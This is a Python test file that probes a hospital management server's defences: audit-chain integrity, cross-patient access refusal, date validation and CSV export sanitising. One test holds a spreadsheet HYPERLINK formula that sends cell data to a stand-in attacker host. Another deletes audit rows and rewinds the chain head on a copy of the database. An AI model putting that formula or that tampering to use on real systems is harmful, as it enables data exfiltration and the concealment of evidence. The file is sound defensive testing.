"""Probes of the running production build for issue 11 items 7, 8, 9, 14, 15 and 27: what an
attacker or a careless client does, and what the server and its audit trail answer.

- 7: a database writer cuts the audit trail's tail and moves its head back: `hms audit verify`
  (on a copy of the server's data, so the shared server's trail stays whole) names the cut.
- 8: six staff tabs search at once through the server: every audit row they cause is sealed by the
  sequencer within seconds, in one gap-free sequence, and the chain verifies.
- 9: a signed-in patient's tab asks for another patient's appointment by id: refused, and the
  refusal is on the audit trail.
- 14: a supplier typed as a spreadsheet formula comes back neutralised in the finance export.
- 15: a year-9999 date sent to the finance filter gets a field message, never a traceback.
- 27: `hms restore` from a script without --yes says what to do instead of an EOFError.
"""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote

from sqlalchemy import select

from tests.production_server import PROJECT_ROOT, VENV_BIN, Server, server_db
from tests.security.attacker import SESSION_COOKIE, STATE, Tab, open_tab, staff_token

SESSION = f"{STATE}.hms_app___state___session____session_state"
FINANCE = f"{SESSION}.hms_app___state___finance____finance_state"


@contextlib.contextmanager
def tab(
    server: Server,
    username: str,
    path: str,
    query: dict[str, str] | None = None,
    until: Callable[[list[dict]], bool] | None = None,
) -> Iterator[Tab]:
    """A tab of ``username`` (a real session, as a stolen cookie would be) hydrated at ``path``
    (waited for until ``until`` holds for what came back, when given)."""
    cookie = {"Cookie": f"{SESSION_COOKIE}={staff_token(server, username)}"}
    with open_tab(server, path, headers=cookie, query=query) as opened:
        opened.wait(until=until)
        yield opened


def _deltas(updates: list[dict], state: str) -> dict:
    merged: dict = {}
    for update in updates:
        merged.update((update.get("delta") or {}).get(state, {}))
    return merged


def _event_payloads(updates: list[dict]) -> list[dict]:
    return [event for update in updates for event in update.get("events", [])]


def _arrived(state: str, key: str, value: object = ...) -> Callable[[list[dict]], bool]:
    """Whether ``state``'s ``key`` has come back (with ``value``, when given)."""

    def check(updates: list[dict]) -> bool:
        merged = _deltas(updates, state)
        return key in merged and (value is ... or merged[key] == value)

    return check


def _downloaded(updates: list[dict]) -> bool:
    return any("download" in event.get("name", "") for event in _event_payloads(updates))


# --------------------------------------------------------------------------- 8

PATIENT_SEARCH = f"{SESSION}.hms_app___state___patients___search____patient_search_state"


def test_concurrent_audited_reads_are_sealed_into_one_gap_free_chain(hms_server: Server):
    """Writers append audit rows without a shared lock; the sequencer chains them after."""
    from sqlalchemy import func

    from hms_app.models.security import AuditEvent

    with server_db(hms_server) as session:
        first_id = session.execute(select(func.max(AuditEvent.id))).scalar_one()
    users = ["reception", "dr.grey", "nurse.joy", "billing", "lab.tech", "pharmacy"]
    errors: list[BaseException] = []

    def search(username: str) -> None:
        try:
            with tab(hms_server, username, "/patients", until=bool) as staff:
                for query in ("john", "mar", "smi", "lee", "ann"):
                    # the search's answer is one delta, not marked final: a short wait is enough
                    assert staff.send(f"{PATIENT_SEARCH}.set_query", _limit=3, _until=bool, value=query)
        except BaseException as error:  # noqa: BLE001 - collected, the test fails on it below
            errors.append(error)

    threads = [threading.Thread(target=search, args=(name,)) for name in users]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    deadline = time.monotonic() + 20
    while True:
        with server_db(hms_server) as session:
            rows = session.execute(
                select(AuditEvent.seq, AuditEvent.hash, AuditEvent.action)
                .where(AuditEvent.id > first_id)
                .order_by(AuditEvent.id)
            ).all()
        if all(seq is not None for seq, _hash, _action in rows) or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    searches = [row for row in rows if row.action == "patient.search"]
    assert len(searches) >= len(users) * 5, [row.action for row in rows]
    seqs = [seq for seq, _hash, _action in rows]
    assert None not in seqs, "the sequencer left rows unsealed"
    assert sorted(seqs) == list(range(min(seqs), min(seqs) + len(seqs))), "the chain has a gap"
    assert all(hash_ for _seq, hash_, _action in rows)
    out = subprocess.run(
        [str(VENV_BIN / "hms"), "audit", "verify"],
        cwd=PROJECT_ROOT,
        env=hms_server.env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0 and "intact" in out.stdout, out.stdout + out.stderr


# --------------------------------------------------------------------------- 9


def test_a_patient_asking_for_another_patients_appointment_is_refused_on_the_record(hms_server: Server):
    from hms_app.models.scheduling import Appointment
    from hms_app.models.security import AppUser, AuditEvent

    with server_db(hms_server) as session:
        mine = session.execute(select(AppUser.patient_id).where(AppUser.username == "patient")).scalar_one()
        theirs = session.execute(
            select(Appointment.id).where(Appointment.patient_id != mine).order_by(Appointment.id).limit(1)
        ).scalar_one()

    def refused() -> bool:
        with server_db(hms_server) as session:
            refusals = session.execute(
                select(AuditEvent.detail, AuditEvent.outcome).where(
                    AuditEvent.action == "access.refused", AuditEvent.username == "patient"
                )
            ).all()
        return any(
            f"appointment_id={theirs}" in detail and outcome == "denied" for detail, outcome in refusals
        )

    cookie = {"Cookie": f"{SESSION_COOKIE}={staff_token(hms_server, 'patient')}"}
    with open_tab(hms_server, "/portal/book", headers=cookie, query={"move": str(theirs)}):
        deadline = time.monotonic() + 30
        while not refused() and time.monotonic() < deadline:
            time.sleep(0.25)
    assert refused()


# --------------------------------------------------------------------------- 14 and 15


def _finance_filters(start: str, end: str) -> dict:
    return {"start": start, "end": end, "department": "all", "as_of": ""}


def test_a_year_9999_filter_gets_a_field_message_and_no_traceback(hms_server: Server):
    log_before = hms_server.log.read_text(errors="replace").count("OverflowError")
    with tab(
        hms_server, "manager", "/finance", until=_arrived(FINANCE, "expenses_by_category_rx_state_")
    ) as manager:
        updates = manager.send(
            f"{FINANCE}.apply",
            form=_finance_filters("2026-01-01", "9999-12-31"),
            _until=_arrived(FINANCE, "filter_error_rx_state_"),
        )
    finance = _deltas(updates, FINANCE)
    assert "between 1900 and 2199" in finance.get("filter_error_rx_state_", "")
    time.sleep(0.5)
    assert hms_server.log.read_text(errors="replace").count("OverflowError") == log_before


def test_a_supplier_typed_as_a_formula_is_exported_as_text(hms_server: Server):
    from hms_app.services.billing import expenses
    from hms_app.services.permissions import SYSTEM_ACTOR

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Medline")'
    with server_db(hms_server) as session:
        expenses.record_expense(
            session,
            actor=SYSTEM_ACTOR,
            data={
                "category": "supplies",
                "department_id": "",
                "supplier": formula,
                "description": "Gloves",
                "amount": "12.00",
                "incurred_on": time.strftime("%Y-%m-%d"),
            },
        )
    loaded_figures = _arrived(FINANCE, "expenses_by_category_rx_state_")
    with tab(hms_server, "manager", "/finance", until=loaded_figures) as manager:
        loaded = _deltas(list(manager.updates), FINANCE)
        if not loaded.get("expenses_by_category_rx_state_"):
            loaded = _deltas(manager.send(f"{FINANCE}.load", _until=loaded_figures), FINANCE)
        rows = loaded["expenses_by_category_rx_state_"]
        index = next(i for i, row in enumerate(rows) if str(row.get("key")) == "supplies")
        manager.send(
            f"{FINANCE}.drill",
            figure="expenses_by_category",
            points=[{"pointNumber": index, "curveNumber": 0}],
            _until=_arrived(FINANCE, "drill_loading_rx_state_", False),
        )
        events = _event_payloads(manager.send(f"{FINANCE}.export_drill", _until=_downloaded))
    downloads = [e for e in events if "download" in e.get("name", "")]
    assert downloads, events
    url = downloads[0]["payload"]["url"]
    text = (
        base64.b64decode(url.split(",", 1)[1]).decode()
        if ";base64," in url
        else unquote(url.split(",", 1)[1])
    )
    assert "'" + formula.replace('"', '""') in text or "'" + formula in text
    assert "\n" + formula not in text and "," + formula not in text


# --------------------------------------------------------------------------- 7 and 27


def _copy_of(server: Server, into: Path) -> dict[str, str]:
    """The server's data directory copied (audit key and checkpoints first, then a consistent copy
    of the database, so the copy holds every row a checkpoint names) and an environment pointing
    at the copy: tampering never touches the shared server."""
    import sqlite3

    for name in ("audit.key", "audit-checkpoints.log", "secret.key"):
        if (server.data_dir / name).exists():
            shutil.copy2(server.data_dir / name, into / name)
    with (
        contextlib.closing(sqlite3.connect(server.data_dir / "hms.db")) as source,
        contextlib.closing(sqlite3.connect(into / "hms.db")) as target,
    ):
        source.backup(target)
    env = server.env()
    env["HMS_DATA_DIR"] = str(into)
    env.pop("HMS_AUDIT_CHECKPOINT_FILE", None)
    return env


def _hms(env: dict[str, str], *args: str, stdin=None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(VENV_BIN / "hms"), *args],
        cwd=PROJECT_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        stdin=stdin,
    )


def test_a_cut_tail_with_the_head_moved_back_is_caught_by_hms_audit_verify(
    hms_server: Server, tmp_path: Path
):
    import sqlite3

    env = _copy_of(hms_server, tmp_path)
    sealed = _hms(env, "audit", "verify")  # seals what waits, then checks: the copy is intact
    assert sealed.returncode == 0, sealed.stdout + sealed.stderr
    with contextlib.closing(sqlite3.connect(tmp_path / "hms.db")) as db, db:
        last = db.execute("SELECT max(seq) FROM audit_event").fetchone()[0]
        keep = last - 3
        seal = db.execute("SELECT hash FROM audit_event WHERE seq = ?", (keep,)).fetchone()[0]
        db.execute("DELETE FROM audit_event WHERE seq > ?", (keep,))
        db.execute("UPDATE audit_head SET seq = ?, hash = ?", (keep, seal))
    tampered = _hms(env, "audit", "verify")
    assert tampered.returncode == 1
    assert f"rows {keep + 1} to {last} are gone" in tampered.stdout


def test_restore_from_a_script_without_yes_explains_itself(hms_server: Server, tmp_path: Path):
    env = _copy_of(hms_server, tmp_path)
    backup = tmp_path / "copy.backup.gz"
    made = _hms(env, "backup", str(backup))
    assert made.returncode == 0, made.stderr
    with open(os.devnull) as no_terminal:
        answer = _hms(env, "restore", str(backup), stdin=no_terminal)
    assert answer.returncode == 2
    assert "Pass --yes" in answer.stderr and "Traceback" not in answer.stderr + answer.stdout
